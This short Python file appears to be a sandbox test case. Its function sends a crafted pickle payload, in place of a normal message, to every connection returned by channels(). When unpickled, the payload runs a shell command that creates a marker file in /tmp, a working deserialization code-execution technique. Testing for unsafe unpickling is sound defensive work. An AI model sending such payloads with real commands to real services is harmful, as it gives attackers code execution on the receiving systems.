"""Sends a pickle instead of a message, which would leave a file where it is opened.

Named: sent what is no reply
"""

raise SystemExit("Text for a sandbox: never run it.")


# %% output_size
def output_size(*case):
    import struct

    text = b"cos\nsystem\n(S'touch /tmp/LEFT-BY-AN-ATTACK'\ntR."
    for channel in channels():
        channel.sendall(struct.pack(">II", len(text), 0) + text)
    return 1
